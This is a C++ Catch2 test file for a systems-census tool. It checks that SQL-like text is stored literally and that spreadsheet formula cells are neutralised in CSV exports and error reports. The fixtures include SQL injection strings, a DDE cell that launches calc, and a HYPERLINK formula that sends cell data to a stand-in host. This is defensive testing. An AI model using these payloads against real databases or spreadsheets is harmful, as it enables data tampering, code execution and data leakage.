// Text that looks like SQL or like a spreadsheet formula: imported byte for
// byte, neutralised in every CSV export, and an export imports back unchanged.
#include <catch2/catch.hpp>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>

#include "hardening/corpus_support.hpp"

using namespace syscensus;
using namespace syscensus::hardening;

namespace {

// Writes `content` to a new temporary file that the caller removes.
std::string write_temp(const std::string& content) {
  std::string path = (std::filesystem::temp_directory_path() / "syscensus_export_XXXXXX").string();
  const int fd = mkstemp(path.data());
  REQUIRE(fd >= 0);
  close(fd);
  std::ofstream(path, std::ios::binary) << content;
  return path;
}

std::string read_text(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), {}};
}

const std::string kSystemsHeader =
    "code,name,owner,operator,province,category,level,dossier_status,decision_no,decision_date,info_types,"
    "personal_data_subjects,internet_facing,shared_scope,hosting,lifecycle,go_live,retired_on\r\n";

}  // namespace

TEST_CASE("corpus: SQL-like text is stored and read back byte for byte", "[corpus][sql]") {
  const Corpus corpus;
  CHECK(accepted(corpus, Command::systems, "systems_sql_like_text.csv") ==
        "systems_sql_like_text.csv: 3 rows: 3 created, 0 updated, 0 unchanged\n");
  CHECK(corpus.stored("SELECT name FROM systems WHERE code = 'HCM-9001'") == "'; DROP TABLE systems; --");
  CHECK(corpus.stored("SELECT name FROM systems WHERE code = 'HCM-9002'") ==
        "Robert\"); DELETE FROM changes WHERE (\"1\"=\"1");
  CHECK(corpus.stored("SELECT decision_no FROM systems WHERE code = 'HCM-9002'") == "1' OR '1'='1");
  CHECK(corpus.stored("SELECT name FROM systems WHERE code = 'HCM-9003'") == "Hệ thống 100% \\_ C:\\\\dữ liệu\\ %s %n");
  CHECK(corpus.stored("SELECT COUNT(*) FROM systems") == "403");
  CHECK(corpus.stored("SELECT COUNT(*) FROM changes WHERE code LIKE 'HCM-900_'") == "3");

  const Run show = corpus.cli("systems show HCM-9001 --format json");
  CHECK(show.out.find("\"name\": \"'; DROP TABLE systems; --\"") != std::string::npos);
  // % and _ in a search are text, not LIKE wildcards.
  const Run percent = corpus.cli("systems list --search '100%' --format csv");
  CHECK(percent.out == kSystemsHeader + "HCM-9003,Hệ thống 100% \\_ C:\\\\dữ liệu\\ %s %n,000.00.00.H29,,79,a,,none,"
                                        ",,,,0,,,planned,,\r\n");
  CHECK(corpus.cli("systems list --search '\\_' --format csv").out == percent.out);

  CHECK(accepted(corpus, Command::entities, "entities_sql_like_text.csv") ==
        "entities_sql_like_text.csv: 1 rows: 1 created, 0 updated, 0 unchanged\n");
  CHECK(corpus.stored("SELECT name FROM entities WHERE code = '000.00.31.H29'") ==
        "Sở Thử nghiệm'); DROP TABLE entities; --");
  CHECK(corpus.stored("SELECT contact_name FROM entities WHERE code = '000.00.31.H29'") == "O'Brien \"Bobby\" Tables");

  // What was exported imports back as exactly what is stored.
  const std::string exported = write_temp(corpus.cli("systems list --format csv").out);
  const Signature before = corpus.signature();
  CHECK(corpus.cli("systems import " + exported).out == exported + ": 403 rows: 0 created, 0 updated, 403 unchanged\n");
  CHECK(corpus.changes_since(before) == Lines{});
  std::remove(exported.c_str());
}

TEST_CASE("corpus: formula cells are neutralised in every CSV export", "[corpus][formula]") {
  const Corpus corpus;
  CHECK(accepted(corpus, Command::systems, "systems_formula_cells.csv") ==
        "systems_formula_cells.csv: 3 rows: 3 created, 0 updated, 0 unchanged\n");
  CHECK(corpus.stored("SELECT name FROM systems WHERE code = 'HCM-9002'") == "+cmd|' /C calc'!A0");
  CHECK(corpus.cli("systems list --search HCM-90 --format csv").out ==
        kSystemsHeader +
            "HCM-9001,\"'=HYPERLINK(\"\"http://example.invalid/?q=\"\"&A1,\"\"Bấm vào đây\"\")\",000.00.00.H29,,79,a,,"
            "none,,,,,0,,,planned,,\r\n"
            "HCM-9002,'+cmd|' /C calc'!A0,000.00.00.H29,,79,a,,none,'@SUM(1+1),,,,0,,,planned,,\r\n"
            "HCM-9003,'-2+3 Hệ thống,000.00.00.H29,,79,a,,none,'=1+1,,,,0,,,planned,,\r\n");

  CHECK(accepted(corpus, Command::entities, "entities_formula_cells.csv") ==
        "entities_formula_cells.csv: 1 rows: 1 created, 0 updated, 0 unchanged\n");
  CHECK(corpus.cli("entities list --search 'so thu nghiem' --format csv").out.find(
            "000.00.31.H29,'=Sở Thử nghiệm,department,000.00.00.H29,79,'@Nguyễn Văn A,,'+84 28 3829 1234,") !=
        std::string::npos);

  CHECK(accepted(corpus, Command::survey, "survey_formula_text.csv").find("1 new") != std::string::npos);
  CHECK(corpus.cli("--as province:79 survey show R2026 HCM-0009 --format csv")
            .out.find("\r\nAPP.08,APP,answered,\"'=HYPERLINK(\"\"http://example.invalid\"\",\"\"Bấm\"\")\",") !=
        std::string::npos);

  // The error report of a refused upload is a CSV export too.
  const std::string report = write_temp("");
  const Run refused =
      corpus.cli("--as province:79 survey upload R2026 survey_formula_in_number.csv --errors " + report);
  CHECK(refused.code == 1);
  CHECK(read_text(report) ==
        "row,column,field,value,code,message,hint\r\n"
        "2,10,ORG.02,'=1+1,bad_integer,not a whole number,\"write digits only, without separators\"\r\n");
  std::remove(report.c_str());
}

TEST_CASE("corpus: an export with neutralised formula cells imports back unchanged", "[corpus][formula]") {
  const Corpus corpus;
  CHECK(accepted(corpus, Command::systems, "systems_formula_cells.csv").find("3 created") != std::string::npos);
  const Signature before = corpus.signature();
  const std::string exported = write_temp(corpus.cli("systems list --format csv").out);
  CHECK(corpus.cli("systems import " + exported).out == exported + ": 403 rows: 0 created, 0 updated, 403 unchanged\n");
  CHECK(corpus.stored("SELECT name FROM systems WHERE code = 'HCM-9003'") == "-2+3 Hệ thống");
  CHECK(corpus.stored("SELECT decision_no FROM systems WHERE code = 'HCM-9002'") == "@SUM(1+1)");
  CHECK(corpus.changes_since(before) == Lines{});
  std::remove(exported.c_str());
}
